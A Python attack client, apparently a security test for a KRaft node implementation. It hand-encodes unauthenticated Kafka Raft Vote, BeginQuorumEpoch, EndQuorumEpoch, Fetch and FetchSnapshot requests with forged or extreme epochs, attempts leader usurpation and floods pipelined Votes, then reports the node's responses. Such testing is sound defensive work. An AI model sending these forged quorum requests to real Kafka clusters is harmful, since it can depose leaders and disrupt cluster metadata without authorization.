"""A hostile client with no credential: sends KRaft requests naming forged epochs to a node
and prints what each answer says, as one JSON object on stdout.

Run as its own process: `python forged_epochs.py attack HOST:PORT LEADER_ID VOTER_ID`
(epochs no replica may be in), `usurp HOST:PORT EPOCH USURPER_ID` (a usable but higher
epoch), `flood HOST:PORT COUNT LEADER_ID` (COUNT Votes at the epoch limit on one
connection) or `describe HOST:PORT`. It imports nothing of `kraft`: Vote, BeginQuorumEpoch,
EndQuorumEpoch and FetchSnapshot frames are written here byte by byte from Kafka's message
schemas, Fetch and DescribeQuorum by kafka-python (an independent implementation of the
protocol).
"""

from __future__ import annotations

import base64
import json
import socket
import struct
import sys
import uuid
import warnings
from typing import Any

warnings.simplefilter("ignore")  # kafka-python's deprecation notes

from kafka.protocol.admin.cluster import (  # noqa: E402
    DescribeQuorumRequest,
    DescribeQuorumResponse,
)
from kafka.protocol.consumer.fetch import FetchRequest, FetchResponse  # noqa: E402

TOPIC = "__cluster_metadata"
TOPIC_ID = uuid.UUID(bytes=base64.urlsafe_b64decode("AAAAAAAAAAAAAAAAAAAAAQ=="))
BIG = 2**31 - 1
VOTE, BEGIN, END, FETCH_SNAPSHOT = 52, 53, 54, 59


# ---------------------------------------------------------------- primitives


def i16(v: int) -> bytes:
    return struct.pack(">h", v)


def i32(v: int) -> bytes:
    return struct.pack(">i", v)


def i64(v: int) -> bytes:
    return struct.pack(">q", v)


def uvarint(v: int) -> bytes:
    out = bytearray()
    while v >= 0x80:
        out.append((v & 0x7F) | 0x80)
        v >>= 7
    out.append(v)
    return bytes(out)


def string(s: str) -> bytes:
    raw = s.encode()
    return i16(len(raw)) + raw


def compact_string(s: str | None) -> bytes:
    if s is None:
        return b"\x00"
    raw = s.encode()
    return uvarint(len(raw) + 1) + raw


def header(api: int, version: int, corr: int, flexible: bool) -> bytes:
    """Request header v1, or v2 (with no tagged fields) for a flexible version."""
    return i16(api) + i16(version) + i32(corr) + string("attacker") + (
        b"\x00" if flexible else b"")


class Reader:
    def __init__(self, data: bytes) -> None:
        self.data, self.pos = data, 0

    def take(self, fmt: str) -> Any:
        v = struct.unpack_from(fmt, self.data, self.pos)[0]
        self.pos += struct.calcsize(fmt)
        return v

    def uvarint(self) -> int:
        shift = value = 0
        while True:
            b = self.data[self.pos]
            self.pos += 1
            value |= (b & 0x7F) << shift
            if b < 0x80:
                return value
            shift += 7

    def skip_compact_string(self) -> None:
        n = self.uvarint() - 1
        self.pos += max(n, 0)

    def skip_string(self) -> None:
        n = self.take(">h")
        self.pos += max(n, 0)


# ---------------------------------------------------------------- requests


def vote(corr: int, replica_epoch: int, replica_id: int, last_offset_epoch: int,
         last_offset: int) -> bytes:
    """Vote v0 (flexible): ClusterId, Topics[TopicName, Partitions[PartitionIndex,
    ReplicaEpoch, ReplicaId, LastOffsetEpoch, LastOffset]]."""
    part = i32(0) + i32(replica_epoch) + i32(replica_id) + i32(last_offset_epoch) \
        + i64(last_offset) + b"\x00"
    topic = compact_string(TOPIC) + uvarint(2) + part + b"\x00"
    return header(VOTE, 0, corr, True) + compact_string(None) + uvarint(2) + topic + b"\x00"


def vote_v2(corr: int, replica_epoch: int, replica_id: int, last_offset_epoch: int,
            last_offset: int, pre_vote: bool) -> bytes:
    """Vote v2 (KIP-996): ClusterId, VoterId, Topics[TopicName, Partitions[PartitionIndex,
    ReplicaEpoch, ReplicaId, ReplicaDirectoryId, VoterDirectoryId, LastOffsetEpoch,
    LastOffset, PreVote]]; no voter key (VoterId -1), a random candidate directory."""
    part = i32(0) + i32(replica_epoch) + i32(replica_id) + uuid.uuid4().bytes \
        + bytes(16) + i32(last_offset_epoch) + i64(last_offset) \
        + (b"\x01" if pre_vote else b"\x00") + b"\x00"
    topic = compact_string(TOPIC) + uvarint(2) + part + b"\x00"
    return header(VOTE, 2, corr, True) + compact_string(None) + i32(-1) + uvarint(2) + topic \
        + b"\x00"


def begin_quorum(corr: int, leader_id: int, leader_epoch: int) -> bytes:
    """BeginQuorumEpoch v0: ClusterId, Topics[TopicName, Partitions[PartitionIndex,
    LeaderId, LeaderEpoch]]."""
    part = i32(0) + i32(leader_id) + i32(leader_epoch)
    return header(BEGIN, 0, corr, False) + i16(-1) + i32(1) + string(TOPIC) + i32(1) + part


def end_quorum(corr: int, leader_id: int, leader_epoch: int) -> bytes:
    """EndQuorumEpoch v0: as BeginQuorumEpoch v0, and PreferredSuccessors[int32]."""
    part = i32(0) + i32(leader_id) + i32(leader_epoch) + i32(0)
    return header(END, 0, corr, False) + i16(-1) + i32(1) + string(TOPIC) + i32(1) + part


def fetch_snapshot(corr: int, replica_id: int, leader_epoch: int, snapshot_epoch: int) -> bytes:
    """FetchSnapshot v0 (flexible): ReplicaId, MaxBytes, Topics[Name, Partitions[Partition,
    CurrentLeaderEpoch, SnapshotId{EndOffset, Epoch}, Position]]."""
    part = i32(0) + i32(leader_epoch) + i64(1) + i32(snapshot_epoch) + b"\x00" + i64(0) \
        + b"\x00"
    topic = compact_string(TOPIC) + uvarint(2) + part + b"\x00"
    return header(FETCH_SNAPSHOT, 0, corr, True) + i32(replica_id) + i32(1 << 20) \
        + uvarint(2) + topic + b"\x00"


def fetch(corr: int, replica_id: int, leader_epoch: int, last_fetched_epoch: int,
          version: int = 17) -> bytes:
    """Fetch v17 (the shape the node's direct codec reads) or v13 (its general path only), as
    kafka-python encodes it."""
    R = FetchRequest
    P = R.FetchTopic.FetchPartition
    req = R(replica_state=R.ReplicaState(replica_id=replica_id, replica_epoch=-1),
            max_wait_ms=0, min_bytes=0, max_bytes=1 << 20, isolation_level=0, session_id=0,
            session_epoch=-1, forgotten_topics_data=[], rack_id="",
            topics=[R.FetchTopic(topic_id=TOPIC_ID, partitions=[P(
                partition=0, current_leader_epoch=leader_epoch, fetch_offset=1,
                last_fetched_epoch=last_fetched_epoch, log_start_offset=-1,
                partition_max_bytes=1 << 20)])])
    req.with_header(correlation_id=corr, client_id="attacker")
    return bytes(req.encode(version=version, header=True, framed=True))[4:]


# ---------------------------------------------------------------- answers


def call(address: tuple[str, int], frame: bytes) -> bytes:
    """Send one request frame, return its answer frame (without the size prefix)."""
    with socket.create_connection(address, timeout=30) as s:
        s.sendall(i32(len(frame)) + frame)
        size = struct.unpack(">i", recv(s, 4))[0]
        return recv(s, size)


def recv(s: socket.socket, n: int) -> bytes:
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("closed")
        buf += chunk
    return buf


def quorum_answer(data: bytes, flexible: bool, vote: bool = False) -> dict[str, int]:
    """Vote / BeginQuorumEpoch / EndQuorumEpoch answers: the top-level error, then the one
    partition's ErrorCode, LeaderId, LeaderEpoch (and a Vote's VoteGranted)."""
    r = Reader(data)
    r.take(">i")  # correlation id
    if flexible:
        r.uvarint()  # header tags
    top = r.take(">h")
    if flexible:
        topics = r.uvarint() - 1
    else:
        topics = r.take(">i")
    if topics < 1:
        return {"top_error": top}
    if flexible:
        r.skip_compact_string()
        r.uvarint()
    else:
        r.skip_string()
        r.take(">i")
    r.take(">i")  # partition index
    out = {"top_error": top, "error": r.take(">h"), "leader_id": r.take(">i"),
           "leader_epoch": r.take(">i")}
    if vote:
        out["vote_granted"] = r.take(">?")
    return out


def fetch_snapshot_answer(data: bytes) -> dict[str, int]:
    r = Reader(data)
    r.take(">i")
    r.uvarint()
    r.take(">i")  # throttle
    top = r.take(">h")
    if r.uvarint() - 1 < 1:
        return {"top_error": top}
    r.skip_compact_string()
    r.uvarint()
    r.take(">i")
    return {"top_error": top, "error": r.take(">h")}


def fetch_answer(data: bytes, version: int) -> dict[str, int]:
    resp = FetchResponse.decode(data, version=version, header=True)
    part = resp.responses[0].partitions[0]
    return {"top_error": resp.error_code, "error": part.error_code,
            "leader_id": part.current_leader.leader_id,
            "leader_epoch": part.current_leader.leader_epoch}


def describe(address: tuple[str, int]) -> dict[str, int]:
    """DescribeQuorum v0 by kafka-python: the leader and epoch this node reports."""
    D = DescribeQuorumRequest
    req = D(topics=[D.TopicData(topic_name=TOPIC,
                                partitions=[D.TopicData.PartitionData(partition_index=0)])])
    req.with_header(correlation_id=99, client_id="attacker")
    data = call(address, bytes(req.encode(version=0, header=True, framed=True))[4:])
    resp = DescribeQuorumResponse.decode(data, version=0, header=True)
    p = resp.topics[0].partitions[0]
    return {"error": p.error_code, "leader_id": p.leader_id, "leader_epoch": p.leader_epoch}


def attack(address: tuple[str, int], leader: int, voter: int) -> dict[str, dict[str, int]]:
    """Every forged request, each on its own connection; name -> what its answer said."""
    sent: dict[str, tuple[bytes, bool | int | str]] = {
        # the forged Vote that deposed a leader: the int32 maximum, in the leader's name
        "vote": (vote(1, BIG, leader, BIG - 1, 2**62), True),
        "vote_last_offset_epoch": (vote(2, 5, leader, BIG, 2**62), True),
        "vote_negative": (vote(3, -2, leader, 0, 0), True),
        "begin_quorum_epoch": (begin_quorum(4, leader, BIG), False),
        "begin_quorum_epoch_negative": (begin_quorum(5, leader, -2), False),
        "end_quorum_epoch": (end_quorum(6, leader, BIG), False),
        "fetch_current_leader_epoch": (fetch(7, voter, BIG, 0), 17),
        "fetch_last_fetched_epoch": (fetch(8, voter, 1, BIG), 17),
        "fetch_v13_current_leader_epoch": (fetch(11, voter, BIG, 0, 13), 13),
        "fetch_snapshot_current_leader_epoch": (fetch_snapshot(9, voter, BIG, 1), "snap"),
        "fetch_snapshot_epoch": (fetch_snapshot(10, voter, 1, BIG), "snap"),
    }
    out: dict[str, dict[str, int]] = {}
    for name, (frame, kind) in sent.items():
        data = call(address, frame)
        if isinstance(kind, int) and not isinstance(kind, bool):
            out[name] = fetch_answer(data, kind)
        elif kind == "snap":
            out[name] = fetch_snapshot_answer(data)
        else:
            out[name] = quorum_answer(data, bool(kind))
    return out


def usurp(address: tuple[str, int], epoch: int, usurper: int) -> dict[str, dict[str, int]]:
    """Requests that are well formed but name a higher `epoch` than the quorum's, each on
    its own connection: a Vote and a pre-vote from `usurper` with a log longer than any,
    and a BeginQuorumEpoch and an EndQuorumEpoch in its name."""
    out: dict[str, dict[str, int]] = {}
    for name, frame, vote_kind in (
            ("vote", vote_v2(21, epoch, usurper, epoch - 1, 2**62, False), True),
            ("pre_vote", vote_v2(22, epoch, usurper, epoch - 1, 2**62, True), True),
            ("begin_quorum_epoch", begin_quorum(23, usurper, epoch), False),
            ("end_quorum_epoch", end_quorum(24, usurper, epoch), False)):
        out[name] = quorum_answer(call(address, frame), vote_kind, vote_kind)
    return out


def flood(address: tuple[str, int], count: int, leader: int) -> dict[str, int]:
    """`count` Votes at the epoch limit on one connection, pipelined, then every answer read:
    how many answered INVALID_REQUEST (42)."""
    codes: dict[str, int] = {}
    with socket.create_connection(address, timeout=60) as s:
        frames = b"".join(i32(len(f)) + f for f in (
            vote(corr, BIG, leader, BIG - 1, 2**62) for corr in range(count)))
        s.sendall(frames)
        for _ in range(count):
            size = struct.unpack(">i", recv(s, 4))[0]
            code = str(quorum_answer(recv(s, size), True, vote=True)["error"])
            codes[code] = codes.get(code, 0) + 1
    return codes


def main(argv: list[str]) -> int:
    what = argv[1]
    host, port = argv[2].rsplit(":", 1)
    address = (host, int(port))
    if what == "describe":
        result: Any = describe(address)
    elif what == "usurp":
        result = usurp(address, int(argv[3]), int(argv[4]))
    elif what == "flood":
        result = flood(address, int(argv[3]), int(argv[4]))
    else:
        result = attack(address, int(argv[3]), int(argv[4]))
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
